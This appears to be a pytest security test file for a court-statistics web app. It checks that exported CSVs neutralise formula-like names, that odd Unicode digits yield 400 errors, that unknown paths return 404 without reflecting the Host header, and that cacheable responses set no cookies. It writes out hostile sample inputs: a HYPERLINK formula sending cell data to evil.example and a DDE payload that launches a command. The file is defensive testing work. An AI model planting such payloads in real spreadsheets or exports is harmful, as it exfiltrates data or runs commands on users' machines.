"""What the public view, the releases and the API answer to hostile names and requests
(issue 30, items 1-4), over raw HTTP as each role and signed out.

* Names that analysts upload reach every CSV the product writes neutralised.
* Integer parameters are ASCII digits in a range: any other digit is 400, never 500.
* Dash's app shell answers only the app's pages: nothing under /public, /api, /assets.
* Responses a shared cache may keep carry no cookie and say what they vary on.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from sqlalchemy import text

from data.accounts.access import Viewer
from data.publish import releases
from data.store.db import make_engine
from layouts.export import FORMULA_PREFIXES
from tests.web.conftest import JUDGE_COURT

STAFF = Viewer("u-staff", "staff")
HTML = {"Accept": "text/html"}
HOSTILE_REGION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_COURT = "@SUM(1+9)*cmd|' /C calc'!A0"
HOSTILE_COURT_RU = "+7 (727) 000"
HOSTILE_COURT_KK = "-2+3"
# Digits that str.isdigit() accepts and int() refuses or reads: superscript two,
# Arabic-Indic 2025, full-width 2025.
ODD_DIGITS = ("²", "٢٠٢٥", "２０２５", "2025²")


@pytest.fixture(scope="module")
def engine(demo_db):
    eng = make_engine(demo_db)
    yield eng
    eng.dispose()


@pytest.fixture(scope="module")
def hostile_release(engine):
    """A release published while a region and a court bore formula-like names."""
    region, court = "KZ-11", JUDGE_COURT
    with engine.connect() as conn:
        before_region = conn.execute(text("SELECT name_en FROM regions WHERE region_code = :c"),
                                     {"c": region}).scalar_one()
        before_court = conn.execute(text("SELECT name_en, name_ru, name_kk FROM courts "
                                         "WHERE court_code = :c"), {"c": court}).one()
        year = releases.repository.years(conn)[-1]
    with engine.begin() as conn:
        conn.execute(text("UPDATE regions SET name_en = :n WHERE region_code = :c"),
                     {"n": HOSTILE_REGION, "c": region})
        conn.execute(text("UPDATE courts SET name_en = :n, name_ru = :r, name_kk = :k "
                          "WHERE court_code = :c"),
                     {"n": HOSTILE_COURT, "r": HOSTILE_COURT_RU, "k": HOSTILE_COURT_KK,
                      "c": court})
    try:
        release = releases.publish(engine, year, "hostile names", STAFF)
    finally:
        with engine.begin() as conn:
            conn.execute(text("UPDATE regions SET name_en = :n WHERE region_code = :c"),
                         {"n": before_region, "c": region})
            conn.execute(text("UPDATE courts SET name_en = :n, name_ru = :r, name_kk = :k "
                              "WHERE court_code = :c"),
                         {"n": before_court[0], "r": before_court[1], "k": before_court[2],
                          "c": court})
    return release


def _formula(cell: str) -> bool:
    """A cell a spreadsheet would run: a formula prefix, and not a plain number."""
    if not cell.startswith(FORMULA_PREFIXES):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _cells(archive: zipfile.ZipFile, name: str) -> list[str]:
    rows = csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def _assert_neutralised(body: bytes, names: tuple[str, ...]) -> None:
    archive = zipfile.ZipFile(io.BytesIO(body))
    for member in archive.namelist():
        if not member.endswith(".csv"):
            continue
        cells = _cells(archive, member)
        assert not [c for c in cells if _formula(c)], member
    units = _cells(archive, "units.csv")
    for name in names:
        assert "'" + name in units, name


# --- 1. formula cells in open data ---------------------------------------------------------


def test_names_reach_the_public_release_zip_neutralised(client, hostile_release):
    response = client.get(f"/public/releases/{hostile_release['id']}.zip")
    assert response.status_code == 200
    _assert_neutralised(response.data, (HOSTILE_REGION,))


def test_names_reach_the_full_release_zip_neutralised(as_role, hostile_release):
    response = as_role("staff").get(f"/download/release-{hostile_release['id']}.zip")
    assert response.status_code == 200
    _assert_neutralised(response.data, (HOSTILE_REGION, HOSTILE_COURT, HOSTILE_COURT_RU,
                                        HOSTILE_COURT_KK))
    # JSON is no spreadsheet: the names stay exactly as uploaded there.
    document = json.loads(as_role("staff").get(
        f"/download/release-{hostile_release['id']}.json").data)
    assert HOSTILE_COURT in {u["name_en"] for u in document["units"]}


def test_the_command_line_csv_is_neutralised_too(capsys):
    """`python -m kpi ... --format csv` and `python -m data flags --format csv` write
    through the same neutralisation (their tables carry codes today; names may come)."""
    import pandas as pd

    from cli.kpi import _write

    _write(pd.DataFrame({"name": [HOSTILE_COURT, "plain"], "value": [-1.5, 2.0]}), "csv")
    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out)) for c in row]
    assert "'" + HOSTILE_COURT in cells and "-1.5" in cells
    assert not [c for c in cells if _formula(c)]


# --- 2. integer parameters: ASCII digits in a range, else 400 with a sentence --------------


@pytest.mark.parametrize("digits", ODD_DIGITS)
@pytest.mark.parametrize("path", [
    "/api/v1/kpi?level=national&year={d}", "/api/v1/outlook?level=national&horizon={d}",
    "/api/v1/flags?year={d}", "/api/v1/annotations?year={d}",
    "/api/v1/report?level=national&year={d}",
])
def test_odd_digits_in_the_api_are_a_400_with_a_sentence(as_role, path, digits):
    response = as_role("analyst").get(path.format(d=digits))
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    assert response.is_json and "must be" in response.get_json()["error"]


@pytest.mark.parametrize("digits", ODD_DIGITS)
@pytest.mark.parametrize("path", ["/public?release={d}", "/public/region/KZ-11?release={d}",
                                  "/public/releases?release={d}&lang=en"])
def test_odd_digits_in_the_public_view_are_a_400(client, hostile_release, path, digits):
    response = client.get(path.format(d=digits), headers=HTML)
    assert response.status_code in (400, 200), response.status_code
    if "releases?" not in path:  # the listing takes no release number
        assert response.status_code == 400


# --- 3. the app shell answers only the app's pages -----------------------------------------


@pytest.mark.parametrize("path", ["/public/", "/public//admin/users", "/public//",
                                  "/assets/", "/assets//", "/login/x", "/lang/", "/healthz",
                                  "/download/", "/_dash-anything"])
def test_no_shell_outside_the_pages_signed_out(client, hostile_release, path):
    response = client.get(path, headers={**HTML, "Host": "evil.example"})
    assert response.status_code == 404, (path, response.status_code)
    body = response.get_data(as_text=True)
    assert "_dash-config" not in body and "evil.example" not in body


@pytest.mark.parametrize("role", ["admin", "judge"])
@pytest.mark.parametrize("path", ["/api/v1/nothing", "/api/v1/", "/api/v2/kpi", "/api/",
                                  "/public/nothing/", "/assets/", "/download/x"])
def test_no_shell_outside_the_pages_signed_in(as_role, role, path):
    response = as_role(role).get(path, headers=HTML)
    assert response.status_code == 404, (path, response.status_code)
    assert b"_dash-config" not in response.data
    if path.startswith("/api/"):
        assert response.is_json and response.get_json()["error"]


def test_no_page_reflects_the_host_header(as_role):
    # The test client's cookies are for "localhost": the host of the request it sends.
    response = as_role("staff").get("/?x=reflected", headers=HTML)
    assert response.status_code == 200 and b"_dash-config" in response.data
    assert b"localhost" not in response.data and b"reflected" not in response.data


# --- 4. what a shared cache keeps ----------------------------------------------------------


def test_public_pages_vary_on_the_language_and_set_no_cookie(client, hostile_release):
    page = client.get("/public?lang=en", headers=HTML)
    assert page.status_code == 200
    assert "public" in page.headers["Cache-Control"]
    assert "accept-language" in page.headers.get("Vary", "").lower()
    assert page.headers.getlist("Set-Cookie") == []
    # With no ?lang, the language is the browser's, not a cookie a cache cannot see.
    client.set_cookie("lang", "kk")
    english = client.get("/public", headers={**HTML, "Accept-Language": "en"})
    assert 'lang="en"' in english.get_data(as_text=True)
    assert english.headers.getlist("Set-Cookie") == []


@pytest.mark.parametrize("path", ["/public?lang=en", "/public/releases?lang=kk",
                                  "/public/region/KZ-11?lang=ru", "/public/releases/{n}.zip",
                                  "/public/releases/{n}.json"])
def test_signed_in_readers_get_no_cookie_on_what_a_cache_keeps(as_role, hostile_release, path):
    client = as_role("staff")
    client.delete_cookie("_csrf_token")
    response = client.get(path.format(n=hostile_release["id"]), headers=HTML)
    assert response.status_code == 200
    assert "public" in response.headers["Cache-Control"]
    assert response.headers.getlist("Set-Cookie") == [], response.headers.getlist("Set-Cookie")
